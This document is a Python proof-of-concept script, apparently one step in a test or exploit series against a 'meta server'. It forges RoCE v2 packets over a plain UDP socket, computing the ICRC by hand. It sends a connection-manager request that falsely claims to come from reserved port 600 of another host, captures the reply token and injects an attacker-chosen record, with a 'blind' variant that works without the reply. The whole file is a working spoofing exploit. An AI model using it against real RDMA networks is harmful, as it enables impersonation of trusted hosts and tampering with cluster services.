"""A record that is published by an ordinary UDP socket, for 06-meta-server.sh.

python3 - SOURCE SERVER PORT CLAIMED GID [blind] asks, by packets of RoCE v2 made by hand,
for a connection from port 600 of the address CLAIMED whose path leads to SOURCE, and
publishes GID's record on it. That takes no privilege, and no RDMA: the check value of
packets (ICRC) has no secret. SOURCE is an address without RoCE, so that the socket can
have its port and receive the answer. "blind" leaves out what only the answer tells.
"""
import random
import socket
import struct
import sys
import time
import zlib

ROCE_PORT = 4791
UD_SEND_ONLY, RC_SEND_ONLY = 0x64, 0x04
# The key of each port's queue pair for the connection manager, the same everywhere.
GSI_QP, GSI_QKEY = 1, 0x80010000
CM_CLASS, CM_SEND, CM_REQ, CM_REP = 7, 3, 0x10, 0x13
SERVICE_ID_TCP = 0x0106_0000
RESERVED_PORT = 600
PATIENCE_S = 5


class Forger:
    def __init__(self, source, server):
        self.addresses = [socket.inet_aton(addr) for addr in (source, server)]
        self.server = server
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        # With "don't fragment", and without connect(), the IP header's identification is 0.
        self.sock.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO
        self.sock.bind((source, ROCE_PORT))
        self.source = source
        self.id = random.randbytes(4)

    def send(self, opcode, qpn, psn, rest):
        """A packet with a base transport header and an ICRC."""
        bth = struct.pack("!BBHII", opcode, 0, 0xFFFF, qpn, 1 << 31 | psn)
        # What may change on the way counts as ones.
        masked_bth = bth[:4] + b"\xff" + bth[5:]
        udp_len = 8 + len(bth) + len(rest) + 4
        ip = struct.pack("!BBHHHBBH", 0x45, 0xFF, 20 + udp_len, 0, 0x4000, 0xFF, 17, 0xFFFF)
        udp = struct.pack("!HHHH", ROCE_PORT, ROCE_PORT, udp_len, 0xFFFF)
        masked = b"\xff" * 8 + ip + b"".join(self.addresses) + udp + masked_bth + rest
        icrc = struct.pack("<I", zlib.crc32(masked))
        self.sock.sendto(bth + rest + icrc, (self.server, ROCE_PORT))

    def connect(self, port, claimed):
        """The connection manager's REQ, as rdma_cm would send it."""
        mad = struct.pack("!BBBBHHQHHI", 1, CM_CLASS, 2, CM_SEND, 0, 0,
                          random.getrandbits(64), CM_REQ, 0, 0)
        req = self.id + struct.pack("!IQQII", 0, SERVICE_ID_TCP | port,
                          random.getrandbits(64), 0, 0)
        # QPN, EE contexts and PSN, each with eight more bits: depths, time-outs of a
        # second, retries.
        req += struct.pack("!IIII", 17 << 8 | 1, 1, 18 << 3, 18 << 3 | 7)
        req += struct.pack("!HBBHH", 0xFFFF, 3 << 4 | 7, 3 << 4, 0, 0)
        req += gid(self.source) + gid(self.server)
        req += struct.pack("!IBBBB", 3, 0, 64, 0, 18 << 3)
        req += bytes(44)  # no alternate path
        header = struct.pack("!BBH", 0, 4 << 4, RESERVED_PORT)
        header += bytes(12) + socket.inet_aton(claimed) + bytes(12) + self.addresses[1]
        mad = (mad + req + header).ljust(256, b"\0")
        self.send(UD_SEND_ONLY, GSI_QP, 0, struct.pack("!II", GSI_QKEY, 17) + mad)

    def answer(self):
        """Queue pair, PSN and token in the connection manager's REP, if one comes."""
        self.sock.settimeout(PATIENCE_S)
        while True:
            mad = self.sock.recv(4096)[20:]
            kind, = struct.unpack_from("!H", mad, 16)
            if mad[1] == CM_CLASS and kind == CM_REP and mad[28:32] == self.id:
                qpn, = struct.unpack_from("!I", mad, 24 + 12)
                psn, = struct.unpack_from("!I", mad, 24 + 20)
                return qpn >> 8, psn >> 8, mad[24 + 36 + 32:][:8]

    def publish(self, qpn, psn, addr, token):
        message = b"WFTp" + struct.pack("<I", 1) + gid(addr)
        message += struct.pack("<IQIH", 66, 66, 66, 66) + bytes(6) + token
        self.send(RC_SEND_ONLY, qpn, psn, message)


def gid(addr):
    return bytes(10) + b"\xff\xff" + socket.inet_aton(addr)


def main():
    source, server, port, claimed, published = sys.argv[1:6]
    forger = Forger(source, server)
    forger.connect(int(port), claimed)
    qpn, psn, token = forger.answer()
    if sys.argv[6:] == ["blind"]:
        token = bytes(byte ^ 0xFF for byte in token)
    # The queue pair is of use a moment after the answer, or before; what is repeated
    # does no harm.
    for _ in range(10):
        forger.publish(qpn, psn, published, token)
        time.sleep(0.1)


main()
